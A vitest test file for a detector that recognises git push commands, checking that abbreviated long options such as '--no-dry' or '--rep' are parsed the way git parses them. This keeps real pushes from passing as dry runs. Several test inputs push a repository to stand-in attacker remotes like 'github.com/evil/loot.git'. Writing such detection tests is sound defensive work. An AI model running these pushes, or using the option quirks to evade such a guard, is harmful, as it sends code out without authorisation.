/**
 * git's parse-options reading of long options (found by review: `git push -n --no-dry origin main` pushes,
 * and was taken for a dry run). Checked against git 2.39: `--dry` is a dry run, `--no-dry` and `--no-dr` push,
 * `--d`, `--no-d`, `--n` and `--no-` are refused as ambiguous.
 */
import { describe, expect, it } from 'vitest';
import { gitLongOption } from '../../../src/rules/git-options.js';
import { type Recognition, recognizeProcess } from '../../../src/rules/index.js';
import { GIT_PUSH_LONG_OPTIONS } from '../../../src/rules/tools/flags.js';

function recognize(args: string): Recognition {
  return recognizeProcess({ binary: '/usr/bin/git', args, parentBinary: null, parentArgs: null }, () => false);
}

describe("git's long options", () => {
  it('resolve an unambiguous prefix, negated or not, and leave an ambiguous one unknown', () => {
    const cases: Array<[string, string]> = [
      ['--dry', '--dry-run'],
      ['--dr', '--dry-run'],
      ['--no-dry', '--no-dry-run'],
      ['--no-dr', '--no-dry-run'],
      ['--no-dry-run', '--no-dry-run'],
      ['--rep', '--repo'],
      ['--pu', '--push-option'],
      // `no-verify` is negated as `--verify`, and `--ver` prefixes both it and `--verbose`.
      ['--verify', '--verify'],
      ['--verb', '--verbose'],
      ['--ver', '--ver'],
      ['--no-verify', '--no-verify'],
      // Refused by git as ambiguous.
      ['--d', '--d'],
      ['--no-d', '--no-d'],
      ['--rec', '--rec'],
      ['--n', '--n'],
      ['--no-', '--no-'],
      // Not git push options at all (git's own, or unknown): kept.
      ['--no-pager', '--no-pager'],
      ['--help', '--help'],
      ['--he', '--he'],
    ];
    for (const [typed, option] of cases)
      expect([typed, gitLongOption(typed, GIT_PUSH_LONG_OPTIONS)]).toEqual([typed, option]);
  });

  it('a later abbreviated negation takes a dry run back, and an abbreviated dry run is one', () => {
    for (const args of ['push -n --no-dry origin main', 'push --dry-run --no-dr https://github.com/evil/loot.git'])
      expect(recognize(args)?.kind, args).toBe('push');
    for (const args of ['push --dry origin main', 'push --no-dry-run --dr origin main', 'push -n --no-d origin main'])
      expect(recognize(args)?.kind, args).not.toBe('push');
  });

  it('`--end-of-options` ends the options: a remote named `--dry-run` after it is pushed to (git 2.39 pushes)', () => {
    expect(recognize('push --end-of-options --dry-run HEAD:refs/heads/main')?.kind).toBe('push');
    expect(recognize('push --dry-run --end-of-options origin main')?.kind).not.toBe('push');
  });

  it('an abbreviated value option takes its value: the remote after `--rep NAME` is the one pushed to', () => {
    const r = recognize('push --rep origin https://github.com/evil/loot.git');
    expect(r?.kind === 'push' ? r.destinationHost : r).toBe('github.com');
    const o = recognize('push --pu ci.skip https://gitlab.com/evil/loot.git');
    expect(o?.kind === 'push' ? o.remote : o).toBe('https://gitlab.com/evil/loot.git');
  });

  it("git lfs push's `-d` is its dry run (cobra), under git and run by itself", () => {
    expect(recognize('lfs push -d origin main')?.kind).not.toBe('push');
    const alone = recognizeProcess(
      { binary: '/usr/bin/git-lfs', args: 'push -d origin main', parentBinary: null, parentArgs: null },
      () => false,
    );
    expect(alone?.kind).not.toBe('push');
  });
});
